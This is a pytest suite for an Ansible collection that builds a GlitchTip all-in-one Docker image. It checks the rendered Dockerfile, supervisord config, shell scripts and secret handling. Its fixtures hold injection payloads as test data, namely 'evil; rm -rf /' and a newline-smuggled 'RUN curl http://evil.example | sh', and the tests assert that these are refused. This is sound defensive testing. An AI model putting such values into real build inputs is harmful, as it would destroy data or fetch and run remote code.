# -*- coding: utf-8 -*-
"""The real image build context, rendered by Ansible from the image role, checked with the real parsers.

Each scenario is one ansible-playbook run on localhost (connection local). They
are started together the first time a test needs one, so the slow part (Ansible
runs a module per file) overlaps; no Docker is involved.
"""

from __future__ import annotations

import glob
import json
import os
import shutil
import signal
import subprocess
import sys

import pytest
import yaml

from ansible_collections.glitchtip.aio.plugins.module_utils.aio_runtime import pgtools, programs
from ansible_collections.glitchtip.aio.plugins.module_utils.aio_runtime import settings as aio_settings

pytestmark = pytest.mark.slow

REPO_ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
COLLECTIONS = os.path.join(REPO_ROOT, "collections")
ANSIBLE_PLAYBOOK = os.path.join(os.path.dirname(sys.executable), "ansible-playbook")
if not os.path.exists(ANSIBLE_PLAYBOOK):
    ANSIBLE_PLAYBOOK = shutil.which("ansible-playbook")
RUN_TIMEOUT = 300

PROGRAM_NAMES = ["postgres", "redis", "migrate", "web", "worker", "scheduler"]

# Everything supervisord's environment= syntax can carry, in one value.
HOSTILE = "it's $HOME;50% %(ENV_HOME)s C:\\back\\slash\\, k=v,a#b;c 中文字符 🚀 ünï – end"
WORKER_ENV = {"SAY": 'he said "hi"; 100%', "EMPTY": "", "CELERY_WORKER_MAX_TASKS_PER_CHILD": "1000"}
BASE = "registry.example.com:5000/base/glitchtip-base:latest"
APT_MIRROR = "https://mirrors.example.com:8443/debian_archive/x~y%2B+z"
PIP_INDEX = "http://pypi.example.com/simple"
PIP_PACKAGES = ["gunicorn==23.0.0", "uvicorn[standard]>=0.30"]
EXTRA_PACKAGES = ["vim-tiny", "libpq5=15.8-0+deb12u1"]
SECRETS = {
    "glitchtip_secret_key": "SecretKey-never-in-the-image-0123456789abcdef",
    "glitchtip_db_password": "DbPassword-never-in-the-image-42",
    "glitchtip_redis_password": "RedisPassword-never-in-the-image-7",
}

CONTEXT_PLAYBOOK = """\
- name: Render the image build context only
  hosts: localhost
  connection: local
  gather_facts: false
  tasks:
    - name: Build context of the image role
      ansible.builtin.include_role:
        name: glitchtip.aio.image
        tasks_from: context.yml
"""

DOCKERFILE_PLAYBOOK = """\
- name: Render the Dockerfile template alone (no role validation in front of its filter)
  hosts: localhost
  connection: local
  gather_facts: false
  vars:
    glitchtip_version: "5.2"
    glitchtip_web_port: 8000
    glitchtip_container_healthcheck_interval: 10s
    glitchtip_container_healthcheck_timeout: 5s
    glitchtip_container_healthcheck_start_period: 120s
    glitchtip_container_healthcheck_retries: 3
  tasks:
    - name: Dockerfile for each base
      ansible.builtin.template:
        src: {src}
        dest: "{dest}/Dockerfile-{{{{ item.name }}}}"
        mode: "0644"
      vars:
        glitchtip_image_base: "{{{{ item.base }}}}"
      loop: "{{{{ dockerfile_bases }}}}"
      register: rendered
      ignore_errors: true

    - name: Outcome of each
      ansible.builtin.copy:
        content: "{{{{ rendered.results | to_json }}}}"
        dest: "{dest}/outcomes.json"
        mode: "0644"
"""

DOCKERFILE_BASES = [
    {"name": "semicolon", "base": "evil; rm -rf /"},
    {"name": "newline", "base": "glitchtip/glitchtip:v5.2\nRUN curl http://evil.example | sh"},
    {"name": "uppercase", "base": "FOO:bar"},
    {"name": "good", "base": BASE},
]


class PlaybookRun:
    """One ansible-playbook run started in the background; .result() waits for it."""

    def __init__(self, workdir, playbook, extra_vars):
        self.workdir = str(workdir)
        os.makedirs(self.workdir, exist_ok=True)
        self.playbook = os.path.join(self.workdir, "playbook.yml")
        with open(self.playbook, "w", encoding="utf-8") as handle:
            handle.write(playbook)
        vars_file = os.path.join(self.workdir, "extra-vars.json")
        with open(vars_file, "w", encoding="utf-8") as handle:
            json.dump(dict(extra_vars, ansible_python_interpreter=sys.executable), handle, ensure_ascii=False)
        env = dict(os.environ)
        for name in ("ANSIBLE_ROLES_PATH", "ANSIBLE_CONFIG", "ANSIBLE_COLLECTIONS_PATHS"):
            env.pop(name, None)
        env.update(ANSIBLE_COLLECTIONS_PATH=COLLECTIONS, ANSIBLE_NOCOLOR="1", ANSIBLE_FORCE_COLOR="0",
                   ANSIBLE_LOCAL_TEMP=os.path.join(self.workdir, "ansible-local"),
                   ANSIBLE_REMOTE_TEMP=os.path.join(self.workdir, "ansible-remote"),
                   PYTHONIOENCODING="utf-8", LANG="C.UTF-8", LC_ALL="C.UTF-8")
        self.log = open(os.path.join(self.workdir, "ansible.log"), "w+", encoding="utf-8")
        self.proc = subprocess.Popen([ANSIBLE_PLAYBOOK, "-i", "localhost,", self.playbook, "-e", "@" + vars_file],
                                     cwd=REPO_ROOT, env=env, stdout=self.log, stderr=subprocess.STDOUT)
        self._result = None

    def result(self):
        if self._result is None:
            try:
                rc = self.proc.wait(timeout=RUN_TIMEOUT)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
                raise
            self.log.seek(0)
            self._result = (rc, self.log.read())
            self.log.close()
        return self._result

    def stop(self):
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        if not self.log.closed:
            self.log.close()


def context_vars(root, with_container_default=True, **overrides):
    values = {
        "glitchtip_data_dir": os.path.join(root, "data"),
        "glitchtip_image_context_dir": os.path.join(root, "ctx"),
    }
    if with_container_default:
        # The common role's validation also checks a container role default, which a play
        # that only includes the image role does not load (see test_image_role_validates_alone).
        values["glitchtip_container_web_host_port"] = 8000
    values.update(overrides)
    return values


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    if not ANSIBLE_PLAYBOOK:
        pytest.skip("ansible-playbook not found")
    root = str(tmp_path_factory.mktemp("image-context"))
    ca = os.path.join(root, "corp-root.pem")
    with open(ca, "w", encoding="utf-8") as handle:
        handle.write("-----BEGIN CERTIFICATE-----\nMIIBfake\n-----END CERTIFICATE-----\n")

    hostile_dir = os.path.join(root, "hostile")
    newline_dir = os.path.join(root, "newline")
    bad_base_dir = os.path.join(root, "bad-base")
    dockerfile_dir = os.path.join(root, "dockerfile")
    alone_dir = os.path.join(root, "image-role-alone")
    g6_dir = os.path.join(root, "glitchtip6")
    started = {
        "hostile": PlaybookRun(hostile_dir, CONTEXT_PLAYBOOK, context_vars(
            hostile_dir,
            glitchtip_version="5.2",
            glitchtip_image_base=BASE,
            glitchtip_image_apt_mirror=APT_MIRROR,
            glitchtip_image_pip_index_url=PIP_INDEX,
            glitchtip_image_pip_packages=PIP_PACKAGES,
            glitchtip_image_extra_packages=EXTRA_PACKAGES,
            glitchtip_image_extra_ca_certificates=[ca],
            glitchtip_image_program_environment={"web": {"HOSTILE": HOSTILE}, "worker": WORKER_ENV},
            **SECRETS)),
        "newline": PlaybookRun(newline_dir, CONTEXT_PLAYBOOK, context_vars(
            newline_dir,
            glitchtip_image_program_environment={"web": {"HOSTILE": "line one\nline two"}})),
        "bad-base": PlaybookRun(bad_base_dir, CONTEXT_PLAYBOOK, context_vars(
            bad_base_dir, glitchtip_image_base="evil; rm -rf /")),
        "image-role-alone": PlaybookRun(alone_dir, CONTEXT_PLAYBOOK, context_vars(
            alone_dir, with_container_default=False)),
        # GlitchTip 6.x with the default base image of its release.
        "glitchtip6": PlaybookRun(g6_dir, CONTEXT_PLAYBOOK, context_vars(g6_dir, glitchtip_version="6.2.0")),
        "dockerfile-filter": PlaybookRun(dockerfile_dir, DOCKERFILE_PLAYBOOK.format(
            src=os.path.join(REPO_ROOT, "templates", "Dockerfile.j2"), dest=dockerfile_dir),
            {"dockerfile_bases": DOCKERFILE_BASES}),
    }
    yield started
    for run in started.values():
        run.stop()


@pytest.fixture(scope="module")
def context(runs):
    rc, output = runs["hostile"].result()
    assert rc == 0, output[-6000:]
    return os.path.join(runs["hostile"].workdir, "ctx")


def read(path):
    with open(path, encoding="utf-8") as handle:
        return handle.read()


def all_files(root):
    return sorted(os.path.relpath(os.path.join(d, f), root) for d, _, files in os.walk(root) for f in files)


def test_context_has_every_file(context):
    runtime = sorted("runtime/aio_runtime/" + os.path.basename(p) for p in
                     glob.glob(os.path.join(REPO_ROOT, "plugins", "module_utils", "aio_runtime", "*.py")))
    assert all_files(context) == sorted([
        "Dockerfile", "bin/aio", "build/install-packages.sh", "build/settings.sh", "build/ca/corp-root.crt",
        "build/python/glitchtip_aio_gunicorn.py", "etc/glitchtip-aio/aio.json", "etc/supervisor/supervisord.conf"]
        + ["etc/supervisor/conf.d/%s.conf" % name for name in PROGRAM_NAMES] + runtime)


def test_runtime_files_are_the_collection_files(context):
    for path in glob.glob(os.path.join(REPO_ROOT, "plugins", "module_utils", "aio_runtime", "*.py")):
        with open(path, "rb") as source, open(os.path.join(context, "runtime", "aio_runtime",
                                                           os.path.basename(path)), "rb") as copy:
            assert source.read() == copy.read(), path


def test_modes(context):
    assert os.stat(os.path.join(context, "build", "install-packages.sh")).st_mode & 0o777 == 0o755
    assert os.stat(os.path.join(context, "bin", "aio")).st_mode & 0o777 == 0o755
    assert os.stat(os.path.join(context, "etc", "glitchtip-aio", "aio.json")).st_mode & 0o777 == 0o644


@pytest.fixture(scope="module")
def supervisor_groups(context, tmp_path_factory):
    """Parse the rendered supervisord.conf (and its conf.d) with supervisor's own parser.

    Only the include pattern and the two absolute directories that must exist
    (/data/logs, /run/glitchtip-aio) are pointed into a scratch directory.
    """
    from supervisor.options import ServerOptions

    scratch = str(tmp_path_factory.mktemp("supervisor-parse"))
    logs, run = os.path.join(scratch, "logs"), os.path.join(scratch, "run")
    os.makedirs(logs)
    os.makedirs(run)
    conf_d = os.path.join(scratch, "conf.d")
    os.makedirs(conf_d)

    def relocate(text):
        assert "/data/logs" not in HOSTILE and "/run/glitchtip-aio" not in HOSTILE
        return text.replace("/data/logs", logs).replace("/run/glitchtip-aio", run)

    for path in glob.glob(os.path.join(context, "etc", "supervisor", "conf.d", "*.conf")):
        with open(os.path.join(conf_d, os.path.basename(path)), "w", encoding="utf-8", newline="") as handle:
            handle.write(relocate(read(path)))
    main = read(os.path.join(context, "etc", "supervisor", "supervisord.conf"))
    # The entrypoint links the programs this container runs into the run directory; here: all of them.
    assert "files = /run/glitchtip-aio/programs/*.conf" in main
    main = main.replace("files = /run/glitchtip-aio/programs/*.conf", "files = %s/*.conf" % conf_d)
    main = relocate(main)
    main_path = os.path.join(scratch, "supervisord.conf")
    with open(main_path, "w", encoding="utf-8", newline="") as handle:
        handle.write(main)

    options = ServerOptions()
    options.configfile = main_path
    options.process_config(do_usage=False)
    return {group.name: group for group in options.process_group_configs}, options


def test_supervisord_conf_parses_with_every_program(supervisor_groups):
    groups, options = supervisor_groups
    assert set(groups) == set(PROGRAM_NAMES) | {"watchdog"}
    for name in PROGRAM_NAMES:
        (config,) = groups[name].process_configs
        assert config.name == name
        assert config.command == "/usr/local/bin/aio run %s" % name
        assert config.autostart is True
        assert config.exitcodes == [0]
        assert config.killasgroup is True
    assert options.nodaemon is True


def test_supervisord_program_semantics(supervisor_groups):
    from supervisor.datatypes import RestartUnconditionally

    groups, _ = supervisor_groups
    config = {name: groups[name].process_configs[0] for name in PROGRAM_NAMES}
    assert [name for name in sorted(PROGRAM_NAMES, key=lambda n: config[n].priority)] == PROGRAM_NAMES
    assert config["migrate"].autorestart is False
    assert config["migrate"].startsecs == 0
    for name in ("postgres", "redis", "web", "worker"):
        assert config[name].autorestart is RestartUnconditionally
        assert config[name].startsecs == 3
    assert config["postgres"].stopsignal == signal.SIGINT
    assert config["web"].stopsignal == signal.SIGTERM
    assert config["web"].stopasgroup is True
    assert config["worker"].stopwaitsecs == 60
    assert config["web"].stdout_logfile.endswith("/web.log")
    assert config["web"].stderr_logfile.endswith("/web.err.log")
    assert config["web"].stdout_logfile_maxbytes == 10 * 1024 * 1024


def test_watchdog_listens_for_lost_programs(supervisor_groups):
    from supervisor.events import ProcessStateExitedEvent, ProcessStateFatalEvent

    groups, _ = supervisor_groups
    watchdog = groups["watchdog"]
    assert set(watchdog.pool_events) == {ProcessStateFatalEvent, ProcessStateExitedEvent}
    (config,) = watchdog.process_configs
    assert config.command == "/usr/local/bin/aio watchdog"
    assert config.priority < min(groups[name].process_configs[0].priority for name in PROGRAM_NAMES)


def test_hostile_environment_survives_byte_for_byte(supervisor_groups):
    groups, _ = supervisor_groups
    web_env = groups["web"].process_configs[0].environment
    assert web_env == {"HOSTILE": HOSTILE}
    assert web_env["HOSTILE"].encode("utf-8") == HOSTILE.encode("utf-8")
    assert groups["worker"].process_configs[0].environment == WORKER_ENV
    for name in ("postgres", "redis", "migrate"):
        assert not groups[name].process_configs[0].environment


def test_environment_with_a_newline_fails_naming_the_variable(runs):
    rc, output = runs["newline"].result()
    assert rc != 0
    assert "glitchtip_image_program_environment.web" in output
    assert "newline" in output
    ctx = os.path.join(runs["newline"].workdir, "ctx")
    assert not os.path.exists(os.path.join(ctx, "etc", "supervisor", "conf.d", "web.conf"))


def test_hostile_base_image_is_refused(runs):
    rc, output = runs["bad-base"].result()
    assert rc != 0
    assert "glitchtip_image_base" in output
    assert not os.path.exists(os.path.join(runs["bad-base"].workdir, "ctx", "Dockerfile"))


def test_image_role_validates_alone(runs):
    rc, output = runs["image-role-alone"].result()
    assert rc == 0, output[-3000:]


def test_dockerfile_filter_refuses_hostile_bases(runs):
    rc, output = runs["dockerfile-filter"].result()
    assert rc == 0, output[-4000:]
    workdir = runs["dockerfile-filter"].workdir
    with open(os.path.join(workdir, "outcomes.json"), encoding="utf-8") as handle:
        outcomes = {result["item"]["name"]: result for result in json.load(handle)}
    assert set(outcomes) == {"semicolon", "newline", "uppercase", "good"}
    for name in ("semicolon", "newline", "uppercase"):
        assert outcomes[name]["failed"] is True, name
        assert "glitchtip.aio.image_reference" in outcomes[name]["msg"]
        assert "glitchtip_image_base" in outcomes[name]["msg"]
        assert not os.path.exists(os.path.join(workdir, "Dockerfile-" + name))
    assert "newline" in outcomes["newline"]["msg"]
    assert not outcomes["good"].get("failed")
    assert "FROM %s\n" % BASE in read(os.path.join(workdir, "Dockerfile-good"))


def test_dockerfile_from_line_is_the_base(context):
    lines = read(os.path.join(context, "Dockerfile")).splitlines()
    from_lines = [line for line in lines if line.startswith("FROM")]
    assert from_lines == ["FROM " + BASE]
    assert "EXPOSE 8000" in lines
    assert 'ENTRYPOINT ["/usr/local/bin/aio", "entrypoint"]' in lines


def test_the_images_health_check_has_the_container_roles_timings(context):
    # One home (roles/common defaults): `docker run` of the image and the deployed container agree.
    with open(os.path.join(REPO_ROOT, "roles", "common", "defaults", "main.yml"), encoding="utf-8") as handle:
        defaults = yaml.safe_load(handle)
    [line] = [line for line in read(os.path.join(context, "Dockerfile")).splitlines() if line.startswith("HEALTHCHECK")]
    assert line.startswith("HEALTHCHECK --interval=%s --timeout=%s --start-period=%s --retries=%d CMD " % (
        defaults["glitchtip_container_healthcheck_interval"], defaults["glitchtip_container_healthcheck_timeout"],
        defaults["glitchtip_container_healthcheck_start_period"], defaults["glitchtip_container_healthcheck_retries"])), line
    for role in ("container", "image", "host"):
        with open(os.path.join(REPO_ROOT, "roles", role, "defaults", "main.yml"), encoding="utf-8") as handle:
            assert "healthcheck" not in "".join(yaml.safe_load(handle) or {}), "a second home in roles/%s" % role


def sh_var(path, name):
    return subprocess.run(["sh", "-c", '. "$1"; eval "printf %s \\"\\$$2\\""', "sh", path, name], check=True,
                          capture_output=True).stdout.decode("utf-8")


def test_settings_sh_carries_the_values_exactly(context):
    path = os.path.join(context, "build", "settings.sh")
    mirror = subprocess.run(["sh", "-c", '. "$1"; printf %s "$APT_MIRROR"', "sh", path], check=True,
                            capture_output=True).stdout.decode("utf-8")
    assert mirror == APT_MIRROR
    assert sh_var(path, "PIP_INDEX_URL") == PIP_INDEX
    assert sh_var(path, "PIP_PACKAGES") == " ".join(PIP_PACKAGES)
    assert sh_var(path, "EXTRA_PACKAGES") == " ".join(EXTRA_PACKAGES)
    assert sh_var(path, "POSTGRES_UID") == "5101"
    assert sh_var(path, "REDIS_UID") == "5102"
    assert sh_var(path, "POSTGRES_JIT") == "false"
    assert sh_var(path, "SLIM") == "true"


def test_shell_scripts_are_valid_shell(context):
    for script in ("build/install-packages.sh", "build/settings.sh"):
        subprocess.run(["sh", "-n", os.path.join(context, script)], check=True)
    assert "import gunicorn" in read(os.path.join(context, "build", "install-packages.sh"))


def link_pg_tools(context, lib, bin_dir):
    """Run the build script's own link_pg_tools function (cut from the rendered script) on a fake tree."""
    script = read(os.path.join(context, "build", "install-packages.sh"))
    start = script.index("link_pg_tools() {")
    function = script[start:script.index("\n}\n", start) + 3]
    return subprocess.run(["sh", "-ec", function + 'link_pg_tools "$1" "$2"', "sh", str(lib), str(bin_dir)],
                          capture_output=True, text=True)


def fake_pg(lib, major, names):
    os.makedirs(os.path.join(str(lib), major, "bin"), exist_ok=True)
    for name in names:
        with open(os.path.join(str(lib), major, "bin", name), "w") as handle:
            handle.write("#!/bin/sh\n")


PG_CLIENT_TOOLS = ["psql", "pg_dump", "pg_restore", "pg_isready", "pg_dumpall"]


def test_pg_tools_are_linked_from_a_client_only_install(context, tmp_path):
    lib, bin_dir = tmp_path / "lib", tmp_path / "bin"
    bin_dir.mkdir()
    fake_pg(lib, "17", PG_CLIENT_TOOLS)                 # postgresql-client: no bin/postgres
    result = link_pg_tools(context, lib, bin_dir)
    assert result.returncode == 0, result.stderr
    for tool in PG_CLIENT_TOOLS:
        assert os.readlink(str(bin_dir / tool)) == str(lib / "17" / "bin" / tool) == pgtools.binary(tool, str(lib))


def test_pg_tools_are_linked_from_the_numerically_newest_major_like_the_runtime_picks(context, tmp_path):
    lib, bin_dir = tmp_path / "lib", tmp_path / "bin"
    bin_dir.mkdir()
    for major in ("9.6", "10", "17"):
        fake_pg(lib, major, PG_CLIENT_TOOLS)
    fake_pg(lib, "18", ["psql"])                        # a partial install serves only what it has
    assert link_pg_tools(context, lib, bin_dir).returncode == 0
    for tool in PG_CLIENT_TOOLS:
        assert os.readlink(str(bin_dir / tool)) == pgtools.binary(tool, str(lib))
    assert os.readlink(str(bin_dir / "psql")).startswith(str(lib / "18"))
    assert os.readlink(str(bin_dir / "pg_dump")).startswith(str(lib / "17"))


def test_a_missing_pg_tool_fails_the_build_naming_it(context, tmp_path):
    lib, bin_dir = tmp_path / "lib", tmp_path / "bin"
    bin_dir.mkdir()
    fake_pg(lib, "17", ["psql", "pg_dump"])
    result = link_pg_tools(context, lib, bin_dir)
    assert result.returncode != 0 and "no pg_restore under %s/<major>/bin" % lib in result.stderr


def test_aio_command_is_valid_python(context):
    source = read(os.path.join(context, "bin", "aio"))
    assert source.startswith("#!/usr/bin/python3\n")
    compile(source, "bin/aio", "exec")


@pytest.fixture(scope="module")
def aio_json(context):
    with open(os.path.join(context, "etc", "glitchtip-aio", "aio.json"), encoding="utf-8") as handle:
        return json.load(handle)


def all_keys(value):
    if isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from all_keys(item)
    elif isinstance(value, list):
        for item in value:
            yield from all_keys(item)


def test_aio_json_programs(aio_json):
    assert set(aio_json["programs"]) == set(PROGRAM_NAMES)
    assert aio_json["programs"]["migrate"]["kind"] == "oneshot"
    for name in ("postgres", "redis", "web", "worker"):
        assert aio_json["programs"][name]["kind"] == "service"
    assert aio_json["programs"]["web"]["needs"] == ["postgres", "redis", "migrate"]
    assert all(isinstance(arg, str) for arg in aio_json["programs"]["web"]["command"])
    assert "0.0.0.0:8000" in aio_json["programs"]["web"]["command"]
    assert aio_json["profile"]["broker_env"] == ["VALKEY_URL", "REDIS_URL"]
    assert aio_json["web"]["port"] == 8000
    assert aio_json["redis"]["maxmemory_policy"] == "noeviction"
    assert aio_json["postgres"]["parameters"]["jit"] == "off"


def test_aio_json_holds_no_secret(aio_json):
    for key in all_keys(aio_json):
        assert "password" not in key.lower() and "secret" not in key.lower(), key


def test_no_secret_anywhere_in_the_context(context):
    for relative in all_files(context):
        with open(os.path.join(context, relative), "rb") as handle:
            data = handle.read()
        for name, secret in SECRETS.items():
            assert secret.encode("utf-8") not in data, "%s found in %s" % (name, relative)


def test_aio_json_drives_the_runtime(aio_json, monkeypatch):
    """The baked settings are what the runtime code expects (no KeyError, right values)."""
    environ = {"SECRET_KEY": "k" * 50, "AIO_DB_PASSWORD": "db'pw@x", "AIO_REDIS_PASSWORD": 'red"is\\pw'}
    env = aio_settings.app_environment(aio_json, environ)
    assert "AIO_DB_PASSWORD" not in env and env["VALKEY_URL"] == env["REDIS_URL"]
    assert env["DATABASE_URL"].startswith("postgres://glitchtip:")
    assert "maxmemory-policy noeviction" in programs.redis_config(aio_json, environ["AIO_REDIS_PASSWORD"])
    monkeypatch.setattr(pgtools, "binary", lambda name, lib_dir=None: "/pg/bin/" + name)
    argv = programs.postgres_argv(aio_json, aio_json["paths"]["pgdata"])
    assert "listen_addresses=127.0.0.1" in argv and "jit=off" in argv


def test_ca_certificate_is_copied(context):
    assert read(os.path.join(context, "build", "ca", "corp-root.crt")).startswith("-----BEGIN CERTIFICATE-----")


# ---------------------------------------------------------------- GlitchTip 6.x


@pytest.fixture(scope="module")
def context6(runs):
    rc, output = runs["glitchtip6"].result()
    assert rc == 0, output[-6000:]
    return os.path.join(runs["glitchtip6"].workdir, "ctx")


def test_6x_context_builds_on_upstreams_tag_and_checks_for_granian(context6):
    assert [line for line in read(os.path.join(context6, "Dockerfile")).splitlines() if line.startswith("FROM")] == \
        ["FROM glitchtip/glitchtip:6.2.0"]
    script = read(os.path.join(context6, "build", "install-packages.sh"))
    assert "import granian" in script and "gunicorn" not in script


def test_6x_aio_json_runs_runworker_and_granian(context6):
    with open(os.path.join(context6, "etc", "glitchtip-aio", "aio.json"), encoding="utf-8") as handle:
        settings = json.load(handle)
    worker, web = settings["programs"]["worker"], settings["programs"]["web"]
    assert worker["command"] == ["python3", "manage.py", "runworker", "--scheduler", "--health-check-file",
                                 "/run/glitchtip-aio-worker/health"]
    assert worker["liveness"] == {"file": "/run/glitchtip-aio-worker/health", "max_age_seconds": 15}
    assert web["command"][:3] == ["python3", "-m", "granian"] and "gunicorn" not in json.dumps(settings)
    assert settings["profile"]["broker_env"] == ["VALKEY_URL"]
    assert settings["maintenance"]["partitions"] == ["python3", "manage.py", "maintain_partitions"]
    assert settings["version"] == "6.2.0"
    # The scheduler is in every worker's command, whatever the host's roles (no beat arguments to add).
    for roles in ("web,worker,beat", "worker"):
        effective = aio_settings.effective(settings, {"AIO_ROLES": roles})
        assert effective["programs"]["worker"]["command"] == worker["command"]
